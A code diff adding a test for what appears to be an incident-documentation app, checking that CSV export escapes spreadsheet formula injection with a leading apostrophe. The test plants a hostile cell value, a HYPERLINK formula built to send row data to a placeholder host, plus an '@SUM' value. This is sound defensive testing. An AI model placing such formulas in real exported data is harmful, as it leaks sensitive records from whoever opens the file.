@@ -79,3 +79,36 @@ def test_export_writes_what_the_filter_shows_with_names_only_by_consent(
     assert "desalojados" not in text  # the narrative can name anyone: left out
     assert "Cochabamba" not in text  # and so can a title
     assert "Borrador" not in text  # not shown by the filter, not exported
+
+
+def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(
+    profile: Profile, page: IncidentsPage, qtbot: QtBot, tmp_path: Path
+) -> None:
+    # The CSV is opened in a spreadsheet for analysis, and its names and places come from
+    # other members through sync: a cell starting with = + - @ (or a tab or carriage return) is
+    # a formula there ('=HYPERLINK("https://…?"&A1)' sends the row away). Each such cell
+    # starts with an apostrophe, which spreadsheets read as "this is text" (OWASP's advice).
+    store = RecordStore(profile.engine)
+    space = local_spaces(store).network.id
+    formula = '=HYPERLINK("https://example.org/?"&A1,"Ver")'
+    planted = Person(space_id=space, name=formula, alias="")
+    incident = Incident(
+        space_id=space,
+        title="Amenaza",
+        country="co",
+        place="@SUM(1+1)",
+        consents=(Consent(person_id=planted.id, level=ConsentLevel.SHARE_WITH_NAME),),
+    )
+    act = Act(
+        space_id=space, incident_id=incident.id, victim_id=planted.id, act_type="forced_eviction"
+    )
+    store.save_all([planted, incident, act])
+    page.model.refresh()
+    qtbot.waitUntil(lambda: page.model.total == 1 and not page.model.busy, timeout=WAIT)
+    path = tmp_path / "incidentes.csv"
+    with qtbot.waitSignal(page.exported, timeout=WAIT):
+        page.export_to(path, "csv")
+    (row,) = csv.DictReader(path.read_text(encoding="utf-8").splitlines())
+    assert row["victims"] == "'" + formula
+    assert row["place"] == "'@SUM(1+1)"
+    assert row["country"] == "co" and row["start_date"] == ""  # ordinary cells as they were
